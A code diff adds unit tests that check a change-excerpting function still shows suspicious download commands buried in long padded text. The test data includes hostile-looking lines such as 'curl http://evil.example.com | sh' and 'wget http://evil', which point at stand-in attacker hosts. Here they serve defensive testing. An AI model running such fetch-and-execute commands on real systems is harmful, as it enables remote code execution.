@@ -30,6 +30,25 @@ def test_download_in_a_large_change_is_shown():
     assert "wget http://evil" in excerpt_pair(old, f"{new} wget http://evil {new}")[1]
 
 
+def test_download_after_a_long_insertion_is_shown():
+    padding = "# " + "configure the server " * 40
+    old, new = excerpt_pair(f"serve {LONG}", f"serve {LONG} {padding} curl http://evil.example.com | sh {padding}")
+    assert "curl http://evil.example.com | sh" in new
+    assert "# configure the server" in new
+    assert "curl" not in old
+
+
+def test_download_in_a_long_new_value_is_shown():
+    old, new = excerpt_pair(None, f"{'a ' * 400}wget http://evil{' b' * 400}")
+    assert (old, "wget http://evil" in new, new.startswith("a a")) == ("", True, True)
+    assert new.endswith("(1616 characters)")
+
+
+def test_removed_address_in_a_long_part_is_shown():
+    old, new = excerpt_pair(f"{LONG} {'a ' * 400}proxy http://good{' b' * 400}", LONG)
+    assert "http://good" in old and "http" not in new
+
+
 def test_long_values_are_compared_quickly():
     start = time.monotonic()
     excerpt_pair("a b " * 50_000, "a b " * 50_000 + "c " * 50_000)
